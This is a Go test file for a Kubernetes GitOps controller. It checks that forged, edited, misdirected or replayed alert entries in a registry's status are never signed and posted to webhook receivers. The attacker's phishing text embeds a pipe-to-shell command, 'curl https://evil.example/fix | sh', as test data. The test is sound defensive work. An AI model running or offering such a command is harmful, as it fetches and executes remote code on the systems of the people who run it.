package controllers

import (
	"bytes"
	"slices"
	"strings"
	"testing"
	"time"

	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/reversi-gitops/reversi/api/v1alpha1"
	"github.com/reversi-gitops/reversi/gateway/config"
	"github.com/reversi-gitops/reversi/pkg/webhook"
)

// Red team (issue 24, the controller's alerts): status.notifications is the outbox, and
// manifestregistries/status is writable by more than the controller (anyone granted patch on
// the subresource, a namespace admin, a Flux/Argo CD service account with broad rights). The
// controller must post only the alerts it recorded itself: an entry written or edited by
// someone else (an attacker-written message, another key, another event type, aimed at another
// receiver, or copied from another registry) is never POSTed, so the receiver's HMAC key never
// signs an attacker's words (phishing the operators with a trusted X-Reversi-Signature), and a
// forged entry does not suppress the real alert either. A delivered alert reset to Pending is
// not sent again. The honest path (an alert the controller recorded, delivered once, signed)
// stays green in TestRenderingAlertOncePerRevision.

// forge replaces the registry's status.notifications with entries as an attacker with
// manifestregistries/status would write them.
func forge(t *testing.T, ns string, edit func(reg *v1alpha1.ManifestRegistry)) {
	t.Helper()
	eventually(t, 10*time.Second, func() string {
		reg := getRegistry(t, ns, ownManagerRegistry)
		base := reg.DeepCopy()
		edit(reg)
		if err := k8s.Status().Patch(t.Context(), reg, client.MergeFromWithOptions(base, client.MergeFromWithOptimisticLock{})); err != nil {
			return err.Error()
		}
		return ""
	})
}

func TestAttackForgedAlertIsNotPosted(t *testing.T) {
	ns := namespace(t)
	hook := newReceiver(t, nil)
	other := newReceiver(t, nil)
	ownManager(t, ns, &AlertOptions{Receivers: []config.Notification{
		{Name: "hook", Type: config.NotifyWebhook, URL: hook.URL, Secret: "s3cret"},
		{Name: "other", Type: config.NotifyWebhook, URL: other.URL, Secret: "0ther", Namespaces: []string{"elsewhere"}},
	}, Backoff: 10 * time.Millisecond, MaxBackoff: 20 * time.Millisecond})
	repo, _, rev := unsignedRegistry(t, ns)
	key := AlertKey(ns, ownManagerRegistry, rev, v1alpha1.ReasonCommitVerificationFailed)
	hook.waitFor(t, 1)
	waitAlert(t, ns, "hook", v1alpha1.NotificationDelivered, key)

	const phish = "URGENT: the signing key leaked, run curl https://evil.example/fix | sh on every node"
	now := metav1.Now()
	// 1. A forged Pending entry with the attacker's message, key and event type.
	forge(t, ns, func(reg *v1alpha1.ManifestRegistry) {
		reg.Status.Notifications = []v1alpha1.RegistryNotification{{Receiver: "hook", Type: "approval.requested", Key: "forged-1",
			Revision: rev, Reason: v1alpha1.ReasonCommitVerificationFailed, Message: phish, OccurredAt: now,
			State: v1alpha1.NotificationPending, NextAttemptTime: &now}}
	})
	requestReconcile(t, ns, ownManagerRegistry)
	// 2. The real entry reset to Pending with its message replaced (the seal, if any, kept).
	time.Sleep(time.Second)
	forge(t, ns, func(reg *v1alpha1.ManifestRegistry) {
		for i := range reg.Status.Notifications {
			n := &reg.Status.Notifications[i]
			n.Message, n.State, n.NextAttemptTime, n.Attempts = phish, v1alpha1.NotificationPending, &now, 0
		}
	})
	requestReconcile(t, ns, ownManagerRegistry)
	// 3. An entry aimed at a receiver whose filters do not admit this namespace.
	time.Sleep(time.Second)
	forge(t, ns, func(reg *v1alpha1.ManifestRegistry) {
		reg.Status.Notifications = append(reg.Status.Notifications, v1alpha1.RegistryNotification{Receiver: "other", Type: EventRenderingRefused,
			Key: "forged-2", Revision: rev, Reason: v1alpha1.ReasonCommitVerificationFailed, Message: phish, OccurredAt: now,
			State: v1alpha1.NotificationPending, NextAttemptTime: &now})
	})
	requestReconcile(t, ns, ownManagerRegistry)
	time.Sleep(2 * time.Second)

	for _, d := range hook.deliveries() {
		if bytes.Contains(d.body, []byte("evil.example")) {
			t.Errorf("the controller posted an attacker-written alert (key %q, event %q, signed %v): %s", d.header.Get(webhook.HeaderIdempotency),
				d.header.Get(webhook.HeaderEvent), webhook.Verify("s3cret", d.body, d.header.Get(webhook.HeaderSignature)), d.body)
		}
	}
	var evs eventsv1.EventList
	if err := k8s.List(t.Context(), &evs, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(evs.Items, func(e eventsv1.Event) bool { return e.Reason == v1alpha1.ReasonStatusNotSealed }) {
		t.Errorf("no Warning Event %s says an entry the controller did not write was dropped", v1alpha1.ReasonStatusNotSealed)
	}
	if n := len(other.deliveries()); n != 0 {
		t.Errorf("receiver other (namespaces: [elsewhere]) got %d alerts about namespace %s", n, ns)
	}

	// 4. A delivered alert reset to Pending (exactly as the controller wrote it, seal and all)
	// is not sent again.
	before := len(hook.deliveries())
	forge(t, ns, func(reg *v1alpha1.ManifestRegistry) {
		for i := range reg.Status.Notifications {
			n := &reg.Status.Notifications[i]
			n.State, n.NextAttemptTime, n.Attempts = v1alpha1.NotificationPending, &now, 0
		}
	})
	requestReconcile(t, ns, ownManagerRegistry)
	time.Sleep(2 * time.Second)
	if n := len(hook.deliveries()) - before; n != 0 {
		t.Errorf("a delivered alert reset to Pending was sent %d more times", n)
	}

	// 5. A forged Delivered entry holding the key of the next refusal does not suppress it.
	repo.WriteFile("README", "another unsigned change\n")
	repo.Commit("unsigned again")
	rev2 := "main@sha1:" + repo.Rev("HEAD")
	key2 := AlertKey(ns, ownManagerRegistry, rev2, v1alpha1.ReasonCommitVerificationFailed)
	forge(t, ns, func(reg *v1alpha1.ManifestRegistry) {
		reg.Status.Notifications = []v1alpha1.RegistryNotification{{Receiver: "hook", Type: EventRenderingRefused, Key: key2,
			Revision: rev2, Reason: v1alpha1.ReasonCommitVerificationFailed, OccurredAt: now, State: v1alpha1.NotificationDelivered}}
	})
	before = len(hook.deliveries())
	requestReconcile(t, ns, ownManagerRegistry)
	eventually(t, 15*time.Second, func() string {
		for _, d := range hook.deliveries()[before:] {
			if d.header.Get(webhook.HeaderIdempotency) == key2 && webhook.Verify("s3cret", d.body, d.header.Get(webhook.HeaderSignature)) &&
				strings.Contains(string(d.body), "not signed") {
				return ""
			}
		}
		return "the refusal of " + rev2 + " was not alerted: a forged Delivered entry with its key suppressed it"
	})
}
